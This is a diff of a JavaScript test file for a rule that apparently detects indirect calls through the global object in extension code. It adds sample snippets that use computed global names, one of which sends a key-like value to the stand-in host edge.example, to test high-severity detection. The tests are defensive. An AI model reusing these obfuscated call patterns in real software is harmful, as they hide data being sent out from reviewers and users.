@@ -32,9 +32,14 @@ test('a compiled module is not read as a script; the host that goes there is out
   assert.deepEqual(said(rule, { 'index.js': `${load}exports.activate = (ctx) => addon.run(ctx)`, 'addon.node': addon }, orchestra), ['high index.js:1']);
 });
 
-test('the global object out of sight is a smaller doubt', () => {
-  assert.deepEqual(said(rule, { 'index.js': 'window[location.hash]();' }, { ...orchestra, permissions: ['network'] }), ['medium index.js:1']);
-  assert.deepEqual(said(rule, { 'index.js': 'window[location.hash]();' }, orchestra), [], 'not the way to what is declared');
+test('bad: any function of the global object may be the one that is called', () => {
+  for (const code of ['window[location.hash]();', 'const parts = String(await_).split("."); globalThis[parts[0]]("https://edge.example/?k=" + parts[1]);', 'for (const name of Object.getOwnPropertyNames(globalThis)) if (name.length === 5) globalThis[name]("https://edge.example/");', 'new self[name()]();']) assert.deepEqual(said(rule, { 'index.js': code }, orchestra), ['high index.js:1'], code);
+  assert.deepEqual(said(rule, { 'index.js': 'for (const name of ["parseInt", "parseFloat"]) globalThis[name]("1");' }, orchestra), [], 'the names are known');
+});
+
+test('the global object out of sight otherwise is a smaller doubt', () => {
+  assert.deepEqual(said(rule, { 'index.js': 'take(window[location.hash]);' }, { ...orchestra, permissions: ['network'] }), ['medium index.js:1']);
+  assert.deepEqual(said(rule, { 'index.js': 'take(window[location.hash]);' }, orchestra), [], 'not the way to what is declared');
 });
 
 test('no more places than a person reads', () => {
